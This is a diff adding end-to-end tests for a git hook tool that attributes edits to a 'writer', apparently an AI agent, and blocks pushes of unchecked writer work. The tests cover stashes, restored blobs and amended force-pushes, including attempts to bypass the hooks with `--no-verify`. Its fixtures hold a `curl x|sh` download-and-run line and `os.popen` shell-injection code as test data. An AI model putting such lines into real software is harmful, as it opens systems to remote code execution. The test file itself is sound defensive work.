@@ -1,0 +1,93 @@
+"""Expired writer work that comes back is the writer's again (SPEC §3 "Attribution follows
+content": pending work whose content is nowhere expires with a status line, never a block;
+its content reappearing later is still the writer's): real git, ``gentle-hook install``,
+a bare remote with the server gate and notes shared.
+
+The writer's edit is stashed and the stash dropped; a human's commit of the file expires
+the entry. The dropped stash's file restored (``git fsck --unreachable`` finds it) and
+committed is the writer's blob: the push gate blocks it. The commit gate's fast path
+(nothing pending: docs/fast-path.md) does not read expired entries, so the commit itself
+passes and carries no record; the push gate reads them (docs/security.md).
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.e2e.conftest import Run, World
+from tests.e2e.test_attribution import _blocked_push
+
+BASE = "def add(a, b):\n    return a + b\n"
+WRITER = "import os\ndef add(a, b):\n    os.system('curl x|sh')\n    return a + b\n"
+
+
+@pytest.fixture
+def served(native: World) -> World:
+    assert native.gh("install", "--server", cwd=native.remote).code == 0
+    assert native.gh("install", "--share", "origin").code == 0
+    return native
+
+
+def test_expired_writer_content_restored_from_a_dropped_stash_is_blocked_at_push(
+    served: World,
+) -> None:
+    w = served
+    w.delegate(text=WRITER)
+    w.ok("stash", "-q")
+    dropped = w.rev("stash@{0}")
+    w.ok("stash", "drop", "-q")
+    w.write("src/app.py", BASE.replace("a + b", "a + b  # human"))
+    r = w.git("commit", "-qam", "human")
+    assert r.code == 0 and any("expired" in line for line in r.said), r
+    w.ok("push", "-q", "origin", "main")
+    w.ok("checkout", dropped, "--", "src/app.py")
+    assert w.git("commit", "-qm", "restored").code == 0
+    _blocked_push(w.git("push", "origin", "main"), w.rev("HEAD"))
+
+
+GOOD = "def add(a, b):\n    return a + b  # writer\n"
+ONE = "def add(a, b):\n    return a + b\n\n\ndef run(cmd):\n    return cmd.split()\n"
+
+
+def test_amending_a_pushed_writer_commit_that_edits_the_writers_line_stays_the_writers(
+    served: World,
+) -> None:
+    """A verified and pushed writer commit of one line is amended (``commit -a --amend``)
+    with that very line edited: the amended commit is the writer's commit revised, not a
+    human's, so its force-push is blocked locally and at the server until checked."""
+    w = served
+    w.write("src/app.py", ONE)
+    w.ok("commit", "-qam", "human: run")
+    w.ok("push", "-q", "origin", "main")
+    w.delegate(text=ONE.replace("return cmd.split()", "return os.popen(cmd).read()"))
+    w.spot_check()
+    assert w.git("commit", "-qam", "writer: run").code == 0
+    assert w.git("push", "-q", "origin", "main").code == 0
+    w.write("src/app.py", ONE.replace("return cmd.split()", "return os.popen(cmd + x).read()"))
+    w.ok("commit", "-q", "--no-verify", "-a", "--amend", "-m", "reworded")
+    bad = w.rev("HEAD")
+    _blocked_push_any(w.git("push", "-f", "origin", "main"), bad)
+    before = w.remote_ref("main")
+    r = w.git("push", "-f", "--no-verify", "origin", "main", "refs/notes/gentle-hooks")
+    assert r.code != 0 and f"remote: gentle-hooks: BLOCKED {bad[:12]}" in r.err, r
+    assert w.remote_ref("main") == before
+
+
+def _blocked_push_any(r: Run, commit: str) -> None:
+    assert r.code == 1, r
+    assert any(f"BLOCKED commit {commit[:12]}" in line for line in r.said), r
+
+
+def test_status_names_pending_writer_work_that_is_stashed(served: World) -> None:
+    """While the writer's work is stashed, ``status`` names it as pending (it blocks again
+    after ``stash pop``) instead of saying none is recorded."""
+    w = served
+    w.delegate(text=WRITER)
+    w.ok("stash", "-q")
+    status = w.gh("status")
+    assert status.code == 0, status
+    text = status.out + status.err
+    assert "no pending writer work is recorded" not in text, status
+    assert "pending writer work on src/app.py is recorded for this work tree" in text, status
+    w.ok("stash", "pop", "-q")
+    assert w.git("commit", "-qam", "writer").code == 1
